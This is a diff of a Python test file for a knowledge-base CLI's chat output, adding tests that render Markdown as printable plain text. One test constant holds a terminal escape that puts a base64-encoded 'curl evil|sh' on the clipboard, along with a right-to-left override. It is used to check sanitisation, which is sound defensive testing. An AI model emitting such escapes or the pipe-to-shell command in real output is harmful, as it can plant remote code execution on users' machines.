@@ -17,7 +17,7 @@ from kbmem.agent.offline import markdown_literal
 from kbmem.cli import main
 from kbmem.store import KnowledgeBase
 from kbmem.template import init_kb
-from kbmem.textutil import PrintableStream, json_text, printable
+from kbmem.textutil import MarkdownTextStream, PrintableStream, json_text, markdown_text, printable
 
 # Red text, a clipboard write of "curl evil|sh" ended by BEL, and a right-to-left override.
 EVIL = "\x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBldmlsfHNo\x07 \u202eevil\u202c"
@@ -158,8 +158,10 @@ def test_a_chat_streams_its_answer_made_printable(
     monkeypatch.setattr("sys.stdin", io.StringIO(QUESTION))
     code, out, err = run(capsys, "--kb", str(kb), "chat", "--no-tui")
     assert code == 0, err
-    # The answer quotes the page as Markdown (its brackets escaped), made printable.
-    assert printable(markdown_literal(f"euros {EVIL}.")) in out
+    # The answer quotes the page as Markdown (its brackets escaped): shown as plain text,
+    # without the escapes, made printable.
+    assert markdown_literal(f"euros {EVIL}.") != f"euros {EVIL}."
+    assert printable(f"euros {EVIL}.") in out
     assert_printable(out + err)
 
 
@@ -179,6 +181,37 @@ def test_a_streamed_answer_is_shown_as_the_whole_answer_would_be(text: str) -> N
             stream.write(piece)
         stream.end()
         assert out.getvalue() == printable(text), pieces
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (
+            r"- Tobias: \*\*tin 4\*\* \[a\](b) x\_y \<b\> \#7 C:\\keys \q",
+            r"- Tobias: **tin 4** [a](b) x_y <b> #7 C:\keys \q",
+        ),
+        ("a `co\\*de` and ``x\\` y`` then \\*", "a `co\\*de` and ``x\\` y`` then *"),
+        ("an unclosed `tick \\* stays a tick", "an unclosed `tick * stays a tick"),
+        ("```\nraw \\* here\n```\nafter \\*\n", "```\nraw \\* here\n```\nafter *\n"),
+        ("  ~~~ py\n\\_\n~~~~\n\\_", "  ~~~ py\n\\_\n~~~~\n_"),
+        ("ends with a backslash \\", "ends with a backslash \\"),
+        ("one\r\ntwo \\_\r\n", "one\r\ntwo _\r\n"),
+    ],
+    ids=["escapes", "code-spans", "unclosed", "fence", "tilde-fence", "last-backslash", "crlf"],
+)
+def test_markdown_is_shown_as_plain_text_however_it_is_cut(text: str, shown: str) -> None:
+    """The plain text of a Markdown answer (``kbmem chat --no-tui``, ``kbmem audit``) has no
+    backslash escapes, but code keeps its backslashes; streamed, wherever the pieces are
+    cut, it is the same as the whole answer's."""
+    assert markdown_text(text) == shown
+    cuts = [[text[:n], text[n:]] for n in range(len(text) + 1)] + [list(text)]
+    for pieces in cuts:
+        out = io.StringIO()
+        stream = MarkdownTextStream(PrintableStream(out))
+        for piece in pieces:
+            stream.write(piece)
+        stream.end()
+        assert out.getvalue() == printable(shown), pieces
 
 
 # -- errors and warnings ---------------------------------------------------------------------
